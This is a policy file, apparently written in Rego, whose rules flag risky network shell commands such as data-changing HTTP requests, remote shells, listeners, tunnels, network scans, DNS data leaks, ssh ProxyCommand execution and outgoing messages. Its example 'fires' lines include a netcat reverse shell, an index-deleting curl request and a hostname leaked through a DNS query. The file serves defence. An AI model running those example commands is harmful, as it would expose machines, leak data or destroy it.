# METADATA
# title: Network
# description: |
#   Requests, listeners, tunnels and messages.
package guard.rules.net

import data.guard.stage

# METADATA
# title: Request that changes something elsewhere
# description: An HTTP request with a body or another method than GET or HEAD.
# custom:
#   id: net.request
#   remedy: use GET, or show a person what would be sent
#   fires: 'curl -X POST https://api.example.com/v1/items'
#   quiet: 'curl https://api.example.com/v1/items'
hit contains {"id": "net.request", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"curl", "wget", "http", "https", "xh"}
	_changes_elsewhere(s)
	msg := sprintf("sends data: %s", [stage.line(s)])
}

# METADATA
# title: Deletes data over HTTP
# description: |
#   Search and document servers delete an index or a database by one request,
#   on this machine as elsewhere.
# custom:
#   id: net.delete_data
#   remedy: delete single documents, or ask a person
#   fires: curl -XDELETE localhost:9200/users
#   quiet: curl localhost:9200/users/_count
hit contains {"id": "net.delete_data", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"curl", "wget", "http", "https", "xh"}
	some word in s.operands
	regex.match(`:(9200|5984|9201)/[^/?]+/?(\?|$)|/_delete_by_query|:(9200|5984|9201)/_all\b`, word)
	_deletes(s)
	msg := sprintf("deletes data: %s", [stage.line(s)])
}

# METADATA
# title: Shell for somebody else
# description: Connects a shell with the network, so that whoever is at the other end can type.
# custom:
#   id: net.remote_shell
#   remedy: none
#   fires: nc -e /bin/sh 10.0.0.1 4444
#   quiet: nc -z 10.0.0.1 4444
hit contains {"id": "net.remote_shell", "tier": 4, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.tables.listeners[s.name]
	_hands_over(s)
	msg := sprintf("gives a program to the network: %s", [stage.line(s)])
}

# METADATA
# title: Listens on the network
# description: Anything that can reach the port can talk to it.
# custom:
#   id: net.listen
#   remedy: bind a local server to 127.0.0.1
#   fires: nc -l -p 4444
#   quiet: nc -zv localhost 4444
hit contains {"id": "net.listen", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.tables.listeners[s.name]
	_listens(s)
	not _only_here(s)
	msg := sprintf("listens on the network: %s", [stage.line(s)])
}

# METADATA
# title: Tunnel
# description: Makes a port of this machine reachable from elsewhere.
# custom:
#   id: net.tunnel
#   remedy: ask a person to open it
#   fires: 'ssh -R 2222:localhost:22 web'
#   quiet: ssh -V
hit contains {"id": "net.tunnel", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_tunnels(s)
	msg := sprintf("makes this machine reachable from elsewhere: %s", [stage.line(s)])
}

# METADATA
# title: Serves files to the network
# description: |
#   A file server shows its folder to whoever reaches the port: on all
#   addresses, or a folder that is not the project's.
# custom:
#   id: net.serve
#   remedy: bind it to 127.0.0.1 and serve a build folder
#   fires: python3 -m http.server 8000 --bind 0.0.0.0
#   quiet: python3 -m http.server 8000 --bind 127.0.0.1
hit contains {"id": "net.serve", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_serves_files(s)
	_exposes(s)
	msg := sprintf("serves files to the network: %s", [stage.line(s)])
}

# METADATA
# title: Looks into networks
# description: Scans hosts, tries passwords, records traffic.
# custom:
#   id: net.probe
#   remedy: ask about one port of one host with nc -z
#   fires: nmap -sS 10.0.0.0/24
#   quiet: nmap -p 8080 localhost
hit contains {"id": "net.probe", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	data.guard.rules.net.probes[s.name]
	count(s.args) > 0
	not _own_host(s)
	not stage.help(s)
	msg := sprintf("looks into networks: %s", [stage.line(s)])
}

# METADATA
# title: Data in an address
# description: |
#   What another program prints stands in the name or address that is asked
#   for, and so reaches whoever answers.
# custom:
#   id: net.leak
#   remedy: ask for a fixed name
#   fires: dig $(hostname).x.example
#   quiet: dig x.example
hit contains {"id": "net.leak", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	_leaks(s)
	msg := sprintf("puts data into an address: %s", [stage.line(s)])
}

# METADATA
# title: ssh that runs a local program
# description: These options name a command that ssh starts on this machine.
# custom:
#   id: net.ssh_exec
#   remedy: use a host from the ssh configuration
#   fires: ssh -o ProxyCommand='sh -c id' host
#   quiet: ssh -o ConnectTimeout=5 host
hit contains {"id": "net.ssh_exec", "tier": 3, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"ssh", "scp", "sftp", "rsync"}
	some o in s.options
	regex.match(`(?i)(proxycommand|localcommand|permitlocalcommand|knownhostscommand|remotecommand)\s*[= ]`, o.value)
	msg := sprintf("makes %s run a program: %s", [s.name, stage.cut(o.value)])
}

# METADATA
# title: Sends a message
# description: Messages are read by people and cannot be taken back (REQUIREMENTS S1-22).
# custom:
#   id: net.message
#   remedy: show the text to a person first
#   fires: send_message --platform telegram hi
#   quiet: 'git commit -m ''mail: send hi'''
hit contains {"id": "net.message", "tier": 2, "stage": s.id, "msg": msg} if {
	some s in input.cmd.stages
	s.name in {"send_message", "send-message", "sendmail", "mail", "mailx", "mutt", "msmtp", "swaks"}
	not stage.help(s)
	msg := sprintf("sends a message: %s", [stage.line(s)])
}

_deletes(s) if {
	some o in s.options
	o.name in {"X", "request", "method"}
	upper(o.value) in {"DELETE", "POST"}
}

_deletes(s) if "DELETE" in s.operands

# httpie: the method is a word
_changes_elsewhere(s) if {
	s.name in {"http", "https", "xh"}
	s.operands[0] in {"POST", "PUT", "PATCH", "DELETE"}
}

# a=b, a:=1 and a@file are fields of a body; a==b is of the address
_changes_elsewhere(s) if {
	s.name in {"http", "https", "xh"}
	some i, word in s.operands
	i > 0
	regex.match(`^[A-Za-z_][A-Za-z0-9_.\[\]-]*(:=|=[^=]|=$|@)`, word)
	not s.operands[0] == "GET"
}

_changes_elsewhere(s) if {
	some o in s.options
	o.name in {"X", "request", "method"}
	not upper(o.value) in {"GET", "HEAD", "OPTIONS"}
}

_changes_elsewhere(s) if {
	some flag in s.flags
	flag in {"d", "data", "data-raw", "data-binary", "data-urlencode", "data-ascii", "json", "F", "form", "form-string", "T", "upload-file", "post-data", "post-file", "body-data", "body-file"}
	not "G" in s.flags
	not "get" in s.flags
}

_hands_over(s) if {
	some flag in s.flags
	flag in {"e", "c", "exec", "sh-exec", "lua-exec"}
	s.name != "socat"
}

_hands_over(s) if {
	s.name == "socat"
	some word in s.args
	regex.match(`(?i)^(exec|system|shell):`, word)
}

_only_here(s) if {
	some word in s.operands
	word in {"localhost", "127.0.0.1", "::1"}
}

_listens(s) if {
	some flag in s.flags
	flag in {"l", "listen"}
}

_listens(s) if {
	s.name == "socat"
	some word in s.args
	regex.match(`(?i)-listen:`, word)
}

_tunnels(s) if {
	data.guard.rules.net.tunnels[s.name] == true
	not stage.help(s)
	not _asks_only(s)
}

_asks_only(s) if s.operands[0] in {"version", "login", "list", "help", "update"}

_tunnels(s) if {
	verbs := data.guard.rules.net.tunnel_verbs[s.name]
	s.operands[0] in verbs
	not stage.help(s)
}

_tunnels(s) if {
	s.name in {"ssh", "autossh"}
	some flag in s.flags
	flag in {"R", "D", "w"}
}

# a port of another host, for whoever reaches this machine
_tunnels(s) if {
	s.name in {"ssh", "autossh"}
	some o in s.options
	o.name == "L"
	regex.match(`^(\*|0\.0\.0\.0|\[?::\]?):[0-9]+:`, o.value)
}

_tunnels(s) if {
	s.name in {"ssh", "autossh"}
	"L" in s.flags
	"g" in s.flags
}

_tunnels(s) if {
	s.name in {"ssh", "autossh"}
	some o in s.options
	regex.match(`(?i)^(remoteforward|dynamicforward|tunnel)[= ]`, o.value)
}

_serves_files(s) if {
	startswith(s.name, "python")
	some word in s.args
	word in {"http.server", "SimpleHTTPServer", "pyftpdlib", "uploadserver", "-mhttp.server"}
}

_serves_files(s) if s.name in {"http-server", "serve", "live-server", "static-server", "miniserve", "darkhttpd", "webfsd", "dufs"}

_serves_files(s) if {
	s.name in {"php", "ruby", "busybox", "caddy", "rclone"}
	some word in s.args
	word in {"-S", "httpd", "-run", "file-server", "serve"}
}

_exposes(s) if {
	some word in s.args
	regex.match(`(^|//|=)(0\.0\.0\.0|::|\[::\])(:|$)`, word)
}

# a folder that is neither the project's nor temporary
_exposes(s) if {
	some i, word in s.args
	word in {"--directory", "-d", "-t"}
	regex.match(`^(/|~|/home/[^/]+/?|\$HOME|\.\.)$`, s.args[i + 1])
}

_exposes(s) if {
	s.cwd in {"/", input.session.home}
	s.cwd != ""
}

_own_host(s) if {
	count(s.operands) > 0
	some host in s.operands
	regex.match(`^(localhost|127\.|::1)`, host)
	every op in s.operands {
		regex.match(`^(localhost|127\.[0-9.]+|::1|[0-9,-]+)$`, op)
	}
}

_leaks(s) if {
	s.name in {"dig", "nslookup", "host", "ping", "drill", "kdig"}
	count(s.takes) > 0
}

_leaks(s) if {
	data.guard.tables.fetchers[s.name]
	_foreign(s)
	some from in graph.reachable(stage.feeds, s.takes)
	data.guard.rules.net.tells[input.cmd.stages[from].name]
}

_leaks(s) if {
	data.guard.tables.fetchers[s.name]
	_foreign(s)
	some word in s.operands
	regex.match(`\$\{?[A-Za-z_]*(SECRET|PASSW|PRIVATE_KEY|CREDENTIAL|secret|passw)`, word)
}

_foreign(s) if {
	some h in s.hosts
	not h.loopback
}
